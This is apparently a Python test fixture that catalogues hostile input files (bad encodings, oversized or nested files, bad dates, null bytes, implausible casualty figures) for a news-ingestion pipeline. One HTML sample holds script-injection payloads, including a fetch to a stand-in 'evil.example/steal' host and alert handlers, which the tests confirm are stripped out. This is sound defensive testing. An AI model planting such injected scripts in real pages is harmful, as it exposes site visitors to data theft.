"""The catalogue of hostile inputs (docs/reliability.md): each a file, what reading it with
``--skip-bad`` records, and how many articles are stored from it.

The readers' own unit catalogue (tests/readers/test_readers_bad_input.py) checks codes and
origins; this one takes each input on through extraction and storage.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import orjson

STORY = "Gunmen killed three villagers in Zamfara on Monday, police said."
STORY_2 = "Soldiers killed five militants in Borno state on Tuesday, the army said."
FRENCH = "Des hommes armés ont tué trois villageois à Zamfara lundi, a déclaré la police. " * 3


def jsonl(*records: dict) -> bytes:
    return b"".join(orjson.dumps(r) + b"\n" for r in records)


def sparse(size: int) -> Callable[[Path], None]:
    """A file of ``size`` bytes that takes no disk space: the readers refuse it by its size."""

    def write(path: Path) -> None:
        with path.open("wb") as f:
            f.write((STORY + "\n").encode() * 1000)  # text first: it is not taken for binary
            f.truncate(size)

    return write


NESTED = (
    b"<html><body>" + b"<div>" * 100_000 + STORY.encode() + b"</div>" * 100_000 + b"</body></html>"
)
SCRIPTED = f"""<!doctype html><html><head><title>Zamfara attack</title>
<script>document.write('<b>INJECTED</b>'); fetch('https://evil.example/steal')</script>
<style>body {{ background: url(javascript:alert(1)) }}</style></head>
<body><nav>Home | World</nav>
<iframe src="https://evil.example/frame" onload="alert('FRAMED')"></iframe>
<article><h1>Zamfara attack</h1><p>{STORY}</p>
<p>Residents said the attackers arrived on motorcycles <img src=x onerror="alert('IMG')"> and
burned several houses before fleeing into the forest.</p>
<script>alert('INLINE')</script></article>
<footer>Copyright</footer></body></html>""".encode()
FEED = f"""<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title>
<item><title>a</title><link>https://example.org/a</link><pubDate>Someday, 45 Foo 20x4</pubDate>
<description>{STORY}</description></item>
<item><title>b</title><link>https://example.org/b</link>
<pubDate>Sat, 31 Aug 2024 10:00:00 +0000</pubDate>
<description>{STORY_2}</description></item>
<item><title>c</title><link>https://example.org/c</link>
<pubDate>Fri, 31 Dec 2999 10:00:00 +0000</pubDate>
<description>Police said two protesters were injured in Nairobi on Friday.</description></item>
</channel></rss>""".encode()  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    content: bytes | Callable[[Path], None]
    skips: tuple[str, ...] = ()  # codes recorded with --skip-bad, in order
    stored: int = 0  # articles stored
    fatal: str | None = None  # the code raised without --skip-bad (None: reads cleanly)
    check: Callable[..., None] | None = field(default=None, compare=False)

    def write(self, folder: Path) -> Path:
        path = folder / self.filename
        if callable(self.content):
            self.content(path)
        else:
            path.write_bytes(self.content)
        return path


def _no_nul(store, ids):  # type: ignore[no-untyped-def]
    for article_id in ids:
        article = store.get_article(article_id)
        assert article is not None and "\x00" not in article.text


def _undated(*ids: str):  # type: ignore[no-untyped-def]
    def check(store, stored_ids):  # type: ignore[no-untyped-def]
        for article_id in ids or stored_ids:
            article = store.get_article(article_id)
            assert article is not None and article.published is None

    return check


def _no_script_text(store, ids):  # type: ignore[no-untyped-def]
    (article_id,) = ids
    text = store.get_article(article_id).text
    assert "Gunmen killed three villagers" in text
    for marker in ("INJECTED", "evil.example", "alert", "FRAMED", "INLINE", "javascript:"):
        assert marker not in text


def _implausible_never_stored(store, ids):  # type: ignore[no-untyped-def]
    from frontlines.nlp.numbers import IMPLAUSIBLE

    for record in store.iter_incidents():
        for name in ("fatalities", "fatalities_best", "fatalities_high", "injured_high"):
            assert (record.get(name) or 0) <= IMPLAUSIBLE, (name, record.get(name))
        for claim in record["claims"]:
            if isinstance(claim["value"], int):
                assert claim["value"] <= IMPLAUSIBLE


def _first_version_kept(store, ids):  # type: ignore[no-untyped-def]
    article = store.get_article("dup")
    assert article is not None and article.text == STORY


def _decoded(fragment: str):  # type: ignore[no-untyped-def]
    def check(store, ids):  # type: ignore[no-untyped-def]
        assert any(fragment in store.get_article(i).text for i in ids)

    return check


CATALOGUE: list[Hostile] = [
    Hostile("empty", "empty.txt", b"", ("E101",), fatal="E101"),
    Hostile("whitespace only", "blank.txt", b"  \n\t\r\n \n", ("E101",), fatal="E101"),
    Hostile("binary (PNG)", "photo.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, ("E102",),
            fatal="E102"),
    Hostile("binary (NUL-heavy)", "dump.txt", b"\x00\x01\x02\x03" * 4096, ("E102",), fatal="E102"),
    Hostile("invalid UTF-8, no encoding fits", "garbage.txt", bytes(range(128, 256)) * 4,
            ("E103",), fatal="E103"),
    Hostile("legacy Windows-1252", "cp1252.txt",
            ("In São Paulo state, " + STORY).encode("cp1252"), stored=1,
            check=_decoded("São Paulo")),
    Hostile("UTF-16 text with BOM", "utf16.txt",
            ("\ufeff" + "Reports from Kano. " + STORY).encode("utf-16-le"),
            stored=1, check=_decoded("Zamfara")),
    Hostile("UTF-16 JSONL with BOM", "utf16.jsonl",
            b"\xff\xfe" + jsonl({"id": "u1", "text": STORY}, {"id": "u2", "text": STORY_2})
            .decode().encode("utf-16-le"), stored=2),
    Hostile("truncated JSONL", "cut.jsonl",
            jsonl({"id": "c1", "text": STORY}) + b'{"id": "c2", "text": "Gunm', ("E104",),
            stored=1, fatal="E104"),
    Hostile("JSON lines without text", "notext.jsonl",
            jsonl({"id": "n1"}, {"id": "n2", "text": None}, {"id": "n3", "text": "  "},
                  {"id": "n4", "text": 5}) + b"[1, 2]\n", ("E105",) * 4 + ("E104",),
            fatal="E105"),
    Hostile("a 50 MB article", "huge.txt", sparse(50_000_000), ("E106",), fatal="E106"),
    Hostile("a 2.6-million-character article under the byte limit", "book.txt",
            ((STORY + " ") * 40_000).encode(), ("E114",), fatal="E114"),
    Hostile("deeply nested HTML", "nested.html", NESTED, ("E111",), fatal="E111"),
    Hostile("HTML with scripts and iframes", "scripts.html", SCRIPTED, stored=1,
            check=_no_script_text),
    Hostile("RSS with malformed and future dates", "feed.xml", FEED, ("E109", "E113"), stored=3,
            fatal="E109"),
    Hostile("dated in the future", "future.jsonl",
            jsonl({"id": "f1", "text": STORY, "publication_date": "2999-12-31"}), ("E113",),
            stored=1, fatal="E113", check=_undated("f1")),
    Hostile("dated 1900-01-01 (a spreadsheet's zero date)", "y1900.jsonl",
            jsonl({"id": "o1", "text": STORY, "publication_date": "1900-01-01"},
                  {"id": "o2", "text": STORY_2, "publication_date": "0001-01-01T00:00:00"}),
            ("E113", "E113"), stored=2, fatal="E113", check=_undated("o1", "o2")),
    Hostile("dated in mid-1900 (a real old date)", "y1900b.jsonl",
            jsonl({"id": "o3", "text": STORY, "publication_date": "1900-06-15"}), stored=1),
    Hostile("non-English", "french.txt", FRENCH.encode(), ("E107",), fatal="E107"),
    Hostile("null bytes in a text file", "nul.txt",
            ("Update: " + STORY.replace(" ", "\x00 ", 3)).encode(),
            stored=1, check=_no_nul),
    Hostile("null characters in JSON text", "nul.jsonl",
            jsonl({"id": "z\u0000", "text": STORY.replace(" ", "\u0000", 3),
                   "title": "\u0000"}), stored=1, check=_no_nul),
    Hostile("control and bidi characters", "ctrl.jsonl",
            jsonl({"id": "k1", "text": "\x1b[31m" + STORY + "\u202e\u2028\ufeff\x07"}), stored=1),
    Hostile("implausible figures", "implausible.jsonl",
            jsonl({"id": "i1", "publication_date": "2024-08-31",
                   "text": "Officials said 1,000,000,000 people were killed in an air strike on "
                           "Kharkiv on Monday."},
                  {"id": "i2", "publication_date": "2024-08-31",
                   "text": "At least 250,000 people were killed and 3,000,000 injured in "
                           "clashes in Kano on Monday, police said."}),
            stored=2, check=_implausible_never_stored),
    Hostile("duplicate ids with different texts", "dup.jsonl",
            jsonl({"id": "dup", "text": STORY, "publication_date": "2024-08-31"},
                  {"id": "dup", "text": STORY_2, "publication_date": "2024-08-31"}),
            ("E115",), stored=1, fatal="E115", check=_first_version_kept),
]  # fmt: skip

# Inputs that ``ingest`` reads cleanly need no ``--skip-bad``; the rest stop a run without it.
assert all(h.fatal is None or h.fatal in h.skips for h in CATALOGUE)
